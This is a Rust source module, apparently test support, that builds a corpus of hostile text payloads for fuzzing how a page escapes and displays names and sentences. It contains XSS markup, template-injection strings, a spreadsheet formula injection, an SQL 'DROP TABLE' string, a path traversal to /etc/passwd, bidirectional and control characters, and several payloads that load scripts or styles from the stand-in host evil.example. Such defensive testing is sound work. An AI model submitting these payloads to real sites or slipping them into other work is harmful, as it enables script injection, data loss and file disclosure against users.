//! Hostile texts: what somebody might put where a name or a sentence is expected.

use std::fmt::Write as _;

/// Elements the page itself never makes. Each is tried with every handler.
pub(crate) const TAGS: [&str; 12] = [
    "img",
    "iframe",
    "object",
    "embed",
    "video",
    "marquee",
    "x-hostile",
    "frameset",
    "math",
    "applet",
    "isindex",
    "portal",
];

const HANDLERS: [&str; 6] = [
    "src=x onerror=hostile=1",
    "onload='hostile=1'",
    "src=javascript:hostile=1",
    "srcdoc='<script>hostile=1</script>'",
    "style=\"background:url(//evil.example/x)\" onclick=hostile=1",
    "autofocus tabindex=1 onfocus=\"hostile=1\"",
];

const SENTENCES: [&str; 48] = [
    "<script>hostile=1</script>",
    "</script><script>hostile=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>hostile=1</sCrIpT>",
    "<svg><script>hostile=1</script></svg>",
    "<svg/onload=hostile=1>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><button>Send</button></form>",
    "<input autofocus onfocus=hostile=1>",
    "<details open ontoggle=hostile=1>",
    "<body onload=hostile=1>",
    "<a href=javascript:hostile=1>press here</a>",
    "<template><img src=x onerror=hostile=1></template>",
    "<!-- --><img src=x onerror=hostile=1><!--",
    "<![CDATA[<img src=x onerror=hostile=1>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=hostile=1>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=hostile=1>",
    "\"><img src=x onerror=hostile=1>",
    "'><img src=x onerror=hostile=1>",
    "` onmouseover=hostile=1 `",
    "\" onmouseover=\"hostile=1",
    "--><x-hostile>",
    "${hostile=1}",
    "{{constructor.constructor('hostile=1')()}}",
    "#{hostile=1}",
    "<%= hostile=1 %>",
    "javascript:hostile=1",
    "JaVaScRiPt&colon;hostile=1",
    "data:text/html,<script>hostile=1</script>",
    "&lt;script&gt;hostile=1&lt;/script&gt;",
    "&#60;img src=x onerror=hostile=1&#62;",
    "%3Cscript%3Ehostile%3D1%3C/script%3E",
    "\\u003cscript\\u003ehostile=1\\u003c/script\\u003e",
    "<\u{0}script>hostile=1</script>",
    "<img\u{0c}src=x\u{0b}onerror=hostile=1>",
    "__proto__[hostile]=1",
    "constructor",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE results; --",
    "../../../../etc/passwd",
    "https://user@evil.example/",
    "lit$123456789$<!--?lit$123456789$-->",
    "<?lit$hostile$?>",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} e\u{301}\u{323} \u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{645}\u{631}\u{62d}\u{628}\u{627}",
];

/// Characters that hide, turn or break the text around them.
fn hidden() -> Vec<char> {
    let mut all: Vec<char> = (0..0x20).chain(0x7f..0xa0).filter_map(char::from_u32).collect();
    all.extend([
        '\u{61c}', '\u{200b}', '\u{200e}', '\u{200f}', '\u{2028}', '\u{2029}', '\u{202a}',
        '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2060}', '\u{2066}', '\u{2067}',
        '\u{2068}', '\u{2069}', '\u{feff}', '\u{fff9}', '\u{fffa}', '\u{fffb}',
    ]);
    all
}

/// Words without a place to break, longer than any column.
const ENORMOUS: [(&str, usize); 5] =
    [("w", 250), ("W", 240), ("\u{5e9}", 200), ("\u{1f4a3}", 60), ("a\u{301}", 80)];

/// What a payload tries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Kind {
    /// Elements, handlers, addresses, code.
    Markup,
    /// Turns the text around it.
    Bidi,
    /// Controls, separators, characters without width.
    Control,
    /// Has no place to break.
    Enormous,
}

pub(crate) const KINDS: [Kind; 4] = [Kind::Enormous, Kind::Markup, Kind::Bidi, Kind::Control];

/// The kind of a payload.
pub(crate) fn kind(text: &str) -> Kind {
    let turns = |letter| matches!(letter, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    if ENORMOUS.iter().any(|(word, times)| word.repeat(*times) == text) {
        Kind::Enormous
    } else if SENTENCES.contains(&text) || text.starts_with('<') {
        Kind::Markup
    } else if text.chars().any(turns) {
        Kind::Bidi
    } else {
        Kind::Control
    }
}

/// The order in which a field is given them: of every kind one after the other while there are
/// some, so that a field of which few are shown is tried by each kind.
pub(crate) fn order(payloads: &[String]) -> Vec<usize> {
    let mut left = KINDS.map(|of| {
        (0..payloads.len())
            .filter(move |at| kind(&payloads[*at]) == of)
            .collect::<Vec<_>>()
            .into_iter()
    });
    let mut order = Vec::new();
    while order.len() < payloads.len() {
        order.extend(left.iter_mut().filter_map(Iterator::next));
    }
    order
}

/// All of them; no two alike.
pub(crate) fn payloads() -> Vec<String> {
    let mut all: Vec<String> = SENTENCES.iter().map(ToString::to_string).collect();
    for tag in TAGS {
        all.extend(HANDLERS.iter().map(|handler| format!("<{tag} {handler}>")));
    }
    for (at, one) in hidden().into_iter().enumerate() {
        all.push(match at % 3 {
            0 => format!("pay {one}gnp.exe"),
            1 => format!("{one}{one}refund"),
            _ => format!("1{one}0{one}0 pounds{one}"),
        });
    }
    all.extend(ENORMOUS.iter().map(|(word, times)| word.repeat(*times)));
    all
}

/// What the page shows of a text: nothing hidden in it. Line breaks and tabs stay in long texts and
/// are blanks elsewhere. Written anew from the rule, not from the page.
pub(crate) fn shown(text: &str, lines: bool) -> String {
    let text = text.replace("\r\n", "\n").replace('\r', "\n");
    let mut out = String::new();
    for letter in text.chars() {
        let code = u32::from(letter);
        let name = match letter {
            '\u{61c}' => "ALM",
            '\u{200e}' => "LRM",
            '\u{200f}' => "RLM",
            '\u{202a}' => "LRE",
            '\u{202b}' => "RLE",
            '\u{202c}' => "PDF",
            '\u{202d}' => "LRO",
            '\u{202e}' => "RLO",
            '\u{2066}' => "LRI",
            '\u{2067}' => "RLI",
            '\u{2068}' => "FSI",
            '\u{2069}' => "PDI",
            _ => "",
        };
        match code {
            _ if !name.is_empty() => {
                out.push('[');
                out.push_str(name);
                out.push(']');
            }
            0x09 | 0x0a => out.push(if lines { letter } else { ' ' }),
            0x00..=0x1f => out.extend(char::from_u32(0x2400 + code)),
            0x7f => out.push('\u{2421}'),
            0x80..=0x9f | 0x200b | 0x2028 | 0x2029 | 0x2060 | 0xfeff | 0xfff9..=0xfffb => {
                let _ = write!(out, "[U+{code:04X}]");
            }
            _ => out.push(letter),
        }
    }
    out
}
